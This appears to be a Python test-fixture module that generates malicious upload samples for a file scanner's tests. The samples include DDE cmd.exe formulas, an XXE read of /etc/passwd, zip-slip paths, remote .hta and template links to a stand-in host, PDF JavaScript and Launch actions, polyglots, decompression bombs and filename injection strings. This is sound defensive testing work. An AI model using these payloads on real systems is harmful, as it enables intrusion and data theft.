"""Files that mean harm, made when asked for: nothing of them lies in the tree (security corpus).

`REFUSED`: name → bytes that are not taken in. `DISARMED`: taken in, without PAYLOAD and without what acts.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image

from tests.scans import scan

PAYLOAD = b"Doc-Ma-Doc"
_P = PAYLOAD.decode()
_TYPES = '<?xml version="1.0"?><Types xmlns="t"><Override ContentType="{}"/></Types>'
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
Made = Callable[[], bytes]


def eicar() -> bytes:
    """The test string of virus scanners, put together here so that no scanner takes this tree away."""
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS" + b"-TEST-FILE!$H+H*"


def package(main: str, parts: dict[str, bytes | str], **info: int) -> bytes:
    """An office file of `main` and these parts."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as out:
        base: dict[str, bytes | str] = {"[Content_Types].xml": _TYPES.format("plain"), main: "<a/>"}
        for name, content in {**base, **parts}.items():
            entry = zipfile.ZipInfo(name)
            entry.compress_type = zipfile.ZIP_DEFLATED
            if name not in base or name in parts:
                entry.external_attr = info.get("attr", 0)
            out.writestr(entry, content)
    return made.getvalue()


def docx(parts: dict[str, bytes | str] | None = None, **info: int) -> bytes:
    return package("word/document.xml", parts or {}, **info)


def xlsx(parts: dict[str, bytes | str] | None = None) -> bytes:
    return package("xl/workbook.xml", parts or {})


def word(body: str) -> bytes:
    return docx({"word/document.xml": f"<w:document {_W}><w:body>{body}</w:body></w:document>"})


def linked(kind: str, target: str) -> bytes:
    rels = (
        f'<Relationships xmlns="r"><Relationship Id="1" Type="http://x/{kind}" Target="{target}" '
        "TargetMode='Exter&#110;al'/></Relationships>"
    )
    return docx({"word/_rels/document.xml.rels": rels})


def sheet(formula: str) -> bytes:
    return xlsx({"xl/worksheets/sheet1.xml": f'<x xmlns="s"><c><f>{formula}</f></c></x>'})


def locked_office() -> bytes:
    content = bytearray(docx())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        while place >= 0:
            content[place + at] |= 1
            place = content.find(mark, place + 1)
    return bytes(content)


def twice() -> bytes:
    made = io.BytesIO(docx())
    with zipfile.ZipFile(made, "a") as out:
        out.fp.seek(0, 2)  # type: ignore[union-attr]
        out.filelist.append(out.filelist[1])
        out._didModify = True  # type: ignore[attr-defined]
    return made.getvalue()


def png(chunks: bytes = b"", size: tuple[int, int] = (2, 2), tail: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))
        )

    wide, high = size
    rows = zlib.compress((b"\0" + b"\0" * wide) * min(high, 2))
    head = chunk(b"IHDR", struct.pack("!IIBBBBB", wide, high, 8, 0, 0, 0, 0))
    more = chunk(chunks[:4], chunks[4:]) if chunks else b""
    return b"\x89PNG\r\n\x1a\n" + head + more + chunk(b"IDAT", rows) + chunk(b"IEND", b"") + tail


def real_png() -> bytes:
    made = io.BytesIO()
    Image.effect_noise((64, 64), 60).save(made, "PNG")
    return made.getvalue()


def jpeg(*, exif: bytes = b"", comment: bytes = b"", tail: bytes = b"") -> bytes:
    made = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(made, "JPEG", exif=exif, comment=comment)
    return made.getvalue() + tail


def located() -> bytes:
    told = Image.Exif()
    told[0x010E] = _P
    told.get_ifd(0x8825)[1] = "N"
    return jpeg(exif=told.tobytes())


def wide_jpeg() -> bytes:
    content = bytearray(jpeg())
    at = content.find(b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack("!HH", 60000, 60000)
    return bytes(content)


def pdf(change: Callable[[pikepdf.Pdf], None], **saving: object) -> bytes:
    made, out = pikepdf.open(io.BytesIO(scan("trang"))), io.BytesIO()
    change(made)
    made.save(out, **saving)  # type: ignore[arg-type]
    return out.getvalue()


def acts(kind: str, **more: object) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name("/" + kind), **more)


def on_opening(action: Callable[[], Dictionary]) -> Made:
    return lambda: pdf(lambda p: p.Root.__setattr__("OpenAction", action()))


def note(subtype: str, **more: Callable[[], object]) -> Made:
    def add(made: pikepdf.Pdf) -> None:
        entries = {key: value() for key, value in more.items()}
        annotation = Dictionary(
            Type=Name.Annot, Subtype=Name("/" + subtype), Rect=Array([0, 0, 9, 9]), **entries
        )
        made.pages[0].Annots = Array([made.make_indirect(annotation)])

    return lambda: pdf(add)


def in_root(key: str, value: Callable[[pikepdf.Pdf], object]) -> Made:
    return lambda: pdf(lambda p: p.Root.__setitem__(Name("/" + key), value(p)))


def _spec(made: pikepdf.Pdf) -> Dictionary:
    return Dictionary(Type=Name.Filespec, F="a.exe", EF=Dictionary(F=Stream(made, PAYLOAD)))


def _named(made: pikepdf.Pdf, tree: str, value: object) -> Dictionary:
    return Dictionary({"/" + tree: Dictionary(Names=Array(["a", value]))})


def _form(made: pikepdf.Pdf) -> Dictionary:
    return Dictionary(XFA=Stream(made, PAYLOAD), Fields=Array([]))


def _outside(made: pikepdf.Pdf) -> None:
    stream = Stream(made, b"q Q")
    stream.stream_dict.F = _P
    made.pages[0].Contents = stream


def _locked(made: bytes) -> bytes:
    opened, out = pikepdf.open(io.BytesIO(made)), io.BytesIO()
    opened.save(out, encryption=pikepdf.Encryption(owner="a", user=""))
    return out.getvalue()


def _password(made: bytes) -> bytes:
    opened, out = pikepdf.open(io.BytesIO(made)), io.BytesIO()
    opened.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    return out.getvalue()


def _script() -> Dictionary:
    return acts("JavaScript", JS=_P)


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<html><script>alert(1)</script></html>"
_DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
_RUN = "<w:r><w:instrText>{}</w:instrText></w:r>"
_ENTITY = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
_LAUGHS = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>'

REFUSED: dict[str, Made] = {
    "rong.pdf": lambda: b"",
    "rong.txt": lambda: b"",
    "anh.svg": lambda: SVG,
    "svg-gia.png": lambda: SVG,
    "trang.html": lambda: HTML,
    "html-gia.pdf": lambda: HTML,
    "html-gia.jpg": lambda: HTML,
    "chay.exe": lambda: b"MZ\x90\0",
    "chay-gia.pdf": lambda: b"MZ\x90\0",
    "don.pdf.exe": lambda: scan(),
    "don\u202efdp.exe": lambda: scan(),
    "khong-duoi": lambda: scan(),
    "anh.gif": lambda: b"GIF89a=1;alert(1)//",
    "gif-gia.png": lambda: b"GIF89a=1;alert(1)//",
    "anh.heic": lambda: b"\0\0\0\x18ftypheic",
    "bang.csv": lambda: b"=cmd|'/c calc'!A0",
    "nen.zip": lambda: docx(),
    "nen.rar": lambda: b"Rar!\x1a\x07\x00",
    "rar-gia.docx": lambda: b"Rar!\x1a\x07\x00",
    "nen.7z": lambda: b"7z\xbc\xaf\x27\x1c",
    "nen.tar.gz": lambda: b"\x1f\x8b\x08",
    "khong-phai-word.docx": lambda: xlsx(),
    "khong-phai-excel.xlsx": lambda: docx(),
    "cut.docx": lambda: docx()[:-30],
    "macro.docx": lambda: docx({"word/vbaProject.bin": b"x"}),
    "macro-kieu.docx": lambda: docx(
        {"[Content_Types].xml": _TYPES.format("x.macroEnabled.main+xml")}
    ),
    "macro.docm": lambda: docx({"word/vbaProject.bin": b"x"}),
    "macro.xlsx": lambda: xlsx({"xl/VBAProject.bin": b"x"}),
    "macro.xlsm": lambda: xlsx({"xl/vbaProject.bin": b"x"}),
    "macro-xlm.xlsx": lambda: xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}),
    "lien-ket.xlsx": lambda: xlsx({"xl/externalLinks/externalLink1.xml": "<a/>"}),
    "dde.xlsx": lambda: sheet("cmd|'/c calc'!A0"),
    "dde-lien-ket.xlsx": lambda: xlsx({"xl/a.xml": '<x xmlns="s"><ddeLink ddeService="cmd"/></x>'}),
    "goi-ra.xlsx": lambda: sheet('WEBSERVICE("http://a.example/")'),
    "dde.docx": lambda: word(_RUN.format(_DDE)),
    "dde-cat.docx": lambda: word(_RUN.format(_DDE[:4]) + _RUN.format(_DDE[4:])),
    "dde-gon.docx": lambda: word("<w:fldSimple w:instr='DDE excel a b'/>"),
    "mau-xa.docx": lambda: linked("attachedTemplate", "http://a.example/x.dotm"),
    "ole-xa.docx": lambda: linked("oleObject", "http://a.example/x.hta"),
    "anh-xa.docx": lambda: linked("image", "http://a.example/x.png"),
    "tep-xa.docx": lambda: linked("hyperlink", "file://may/chia-se/x.exe"),
    "ma-lenh.docx": lambda: linked("hyperlink", "javascript:alert(1)"),
    "nhung-ole.docx": lambda: docx({"word/embeddings/oleObject1.bin": b"x"}),
    "nhung-nen.docx": lambda: docx({"word/media/a.zip": b"x"}),
    "nhung-excel.docx": lambda: docx({"word/embeddings/a.xlsx": xlsx()}),
    "activex.docx": lambda: docx({"word/activeX/activeX1.xml": "<a/>"}),
    "bom.docx": lambda: docx({"word/media/a.bmp": bytes(20_000_000)}),
    "bom-nhieu.xlsx": lambda: xlsx({f"xl/media/{n}.bmp": bytes(1_000_000) for n in range(12)}),
    "bom-muc.docx": lambda: docx({f"word/{n}.txt": b"" for n in range(5001)}),
    "hai-lan.docx": twice,
    "lien-ket-tuong-trung.docx": lambda: docx({"word/a.txt": "/etc/passwd"}, attr=0o120777 << 16),
    "ra-ngoai.docx": lambda: docx({"../../etc/cron.d/a": b"x"}),
    "tuyet-doi.docx": lambda: docx({"/etc/cron.d/a": b"x"}),
    "mat-khau.docx": locked_office,
    "thuc-the.docx": lambda: docx({"word/document.xml": _ENTITY}),
    "cuoi.docx": lambda: docx({"word/document.xml": _LAUGHS}),
    "hai-byte.docx": lambda: docx({"word/document.xml": _ENTITY.encode("utf-16")}),
    "khoa.pdf": lambda: _locked(scan()),
    "mat-khau.pdf": lambda: _password(scan()),
    "hong.pdf": lambda: b"%PDF-1.7 hong",
    "khong-trang.pdf": lambda: scan().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [     ] /Count 0"),
    "bom.png": lambda: png(size=(20_000, 20_000)),
    "bom-12000.png": lambda: png(size=(12_000, 12_000)),
    "bom.jpg": wide_jpeg,
    "cut.png": lambda: real_png()[:-900],
    "hong.jpg": lambda: b"\xff\xd8\xff" + b"\0" * 50,
    "bom-chu.png": lambda: png(b"zTXta\0\0" + zlib.compress(bytes(30_000_000))),
    "nul.txt": lambda: b"a\0b",
    "utf16.txt": lambda: "đơn".encode("utf-16"),
    "nhi-phan.md": lambda: bytes(range(256)),
    "thoat.txt": lambda: b"\x1b]0;a\x07",
}

DISARMED: dict[str, Made] = {
    "mo-la-chay.pdf": on_opening(_script),
    "ten-viet-khac.pdf": lambda: scan(root=f"/OpenAction << /S /J#61vaScript /J#53 ({_P}) >>"),
    "trong-dong-nen.pdf": lambda: pdf(
        lambda p: p.Root.__setattr__("OpenAction", p.make_indirect(_script())),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    ),
    "ten-ma-lenh.pdf": in_root("Names", lambda p: _named(p, "JavaScript", _script())),
    "trang-tu-chay.pdf": lambda: pdf(
        lambda p: p.pages[0].obj.__setitem__(Name.AA, Dictionary(O=_script()))
    ),
    "chay-chuong-trinh.pdf": note("Link", A=lambda: acts("Launch", F=_P)),
    "gui-bieu-mau.pdf": note("Link", A=lambda: acts("SubmitForm", F=_P)),
    "sang-tep-khac.pdf": note("Link", A=lambda: acts("GoToR", F=_P)),
    "sang-tep-nhung.pdf": note("Link", A=lambda: acts("GoToE", F=_P)),
    "nhap-du-lieu.pdf": note("Link", A=lambda: acts("ImportData", F=_P)),
    "sau-do-chay.pdf": note("Link", A=lambda: acts("GoTo", D=Array([0]), Next=_script())),
    "lan-luot-chay.pdf": note(
        "Link", A=lambda: acts("GoTo", D=Array([0]), Next=Array([_script()]))
    ),
    "dia-chi-la.pdf": note("Link", A=lambda: acts("URI", URI=f"javascript:{_P}")),
    "lenh-la.pdf": note("Link", A=lambda: acts("LenhMoi", F=_P)),
    "nhung.pdf": in_root("Names", lambda p: _named(p, "EmbeddedFiles", _spec(p))),
    "kem-theo.pdf": lambda: pdf(lambda p: p.Root.__setattr__("AF", Array([_spec(p)]))),
    "ghim-tep.pdf": lambda: pdf(
        lambda p: p.pages[0].obj.__setitem__(
            Name.Annots,
            Array([Dictionary(Subtype=Name.FileAttachment, Rect=Array([0, 0, 1, 1]), FS=_spec(p))]),
        )
    ),
    "phim.pdf": note("RichMedia", RichMediaContent=lambda: Dictionary(A=_P)),
    "man-hinh.pdf": note("Screen", A=lambda: acts("Rendition", JS=_P)),
    "xfa.pdf": in_root("AcroForm", _form),
    "dong-ngoai.pdf": lambda: pdf(_outside),
    "hai-mat-html.pdf": lambda: scan() + HTML + PAYLOAD,
    "hai-mat-zip.pdf": lambda: scan() + docx({"a": PAYLOAD * 3}) + PAYLOAD,
    "vi-tri.jpg": located,
    "ghi-chu.jpg": lambda: jpeg(comment=b"<?php " + PAYLOAD),
    "hai-mat.jpg": lambda: jpeg(tail=docx() + PAYLOAD),
    "ghi-chu.png": lambda: png(b"tEXtComment\0<script>" + PAYLOAD),
    "hai-mat.png": lambda: png(tail=HTML + PAYLOAD),
}

# Names as a browser may send them → as they are kept.
NAMES = {
    "../../etc/passwd.pdf": "passwd.pdf",
    "..\\..\\boot.pdf": "boot.pdf",
    "/tuyet/doi.pdf": "doi.pdf",
    "don\r\nSet-Cookie: a=b.pdf": "donSet-Cookie: a=b.pdf",
    "don\u202efdp.txt": "donfdp.txt",
    "don\0.pdf": "don.pdf",
    "a" * 300 + ".pdf": "a" * 146 + ".pdf",
    ".pdf": "pdf",
    "...  .pdf": "pdf",
    "/.. /\u200b.pdf": "pdf",
    "  hai   cach .PDF": "hai cach.PDF",
    "gia\u200b\u2066ng.png": "giang.png",
    "de\u0302.txt": "d\u00ea.txt",
    "": "tep",
}
